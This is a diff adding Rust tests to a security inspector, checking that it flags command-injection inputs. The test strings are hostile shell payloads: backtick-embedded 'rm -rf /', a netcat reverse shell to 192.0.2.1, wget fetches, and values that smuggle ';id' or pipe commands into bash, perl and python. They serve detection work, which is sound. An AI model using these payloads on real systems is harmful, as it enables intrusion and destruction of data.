@@ -2,7 +2,7 @@
 
 use forge_monitor::{Inspector, Level, Verdict};
 
-use crate::{all_found, of_target};
+use crate::{all_found, of_target, of_value};
 
 #[test]
 fn finds_sql() {
@@ -188,6 +188,77 @@ fn finds_commands() {
             "`sleep 5`",
             "a`id`",
             "sudo id",
+        ],
+    );
+}
+
+/// Words around backticks make a text of a value, but a shell runs what is in them all the same.
+#[test]
+fn finds_commands_in_backticks_among_words() {
+    all_found(
+        "command_injection",
+        &[
+            "my name `sh /tmp/x`",
+            "my name `rm -rf /`",
+            "my name `rm -rf ~`",
+            "my name `perl -e 'system(1)'`",
+            "hello there `nc -e /bin/sh 192.0.2.1 4444`",
+            "--name=\"ab cd `sh /x`\"",
+            "[`sh /x`](https://example.org)",
+            "hello there `ping 192.0.2.1`",
+            "hello there `sleep 5`",
+            "hello there `sudo cat /tmp/x` again",
+            "hello there `bash</tmp/x`",
+            "a name `sh /tmp/x```",
+            "hi there \\` ` sh /x`",
+        ],
+    );
+    let spaced = format!("my name `sh{}/tmp/x`", " ".repeat(600));
+    all_found("command_injection", &[&spaced]);
+    // What documentation has as well tells at the high level.
+    for value in [
+        "my name `wget h.example/x`",
+        "my name `nc h 4444`",
+        "my name `/usr/bin/id`",
+        "see `chmod +x -R a` there",
+    ] {
+        let verdict = of_value(value).verdict(Level::High);
+        assert_eq!(verdict, Verdict::Block, "{value}");
+    }
+}
+
+/// A password has signs before a separator; what a program is given has them too.
+#[test]
+fn finds_commands_behind_signs() {
+    all_found(
+        "command_injection",
+        &[
+            "user,name;id",
+            "user,name|sh",
+            "x!ab;nc h 1",
+            "x!ab;rm x",
+            "x!ab|dig h",
+            "ab!|cat flag",
+            "{\"ab\":1};sh",
+            "a-value-too-long-for-a-pass!word;id",
+        ],
+    );
+}
+
+/// `Something | Python` is a title; what a command says into an interpreter is none.
+#[test]
+fn finds_pipes_into_interpreters() {
+    all_found(
+        "command_injection",
+        &[
+            "reboot|bash",
+            "touch x|bash",
+            "echo reboot|bash",
+            "x|bash",
+            "foo|perl",
+            "echo reboot | bash",
+            "a; cat x | python",
+            "yes x | zsh",
         ],
     );
 }
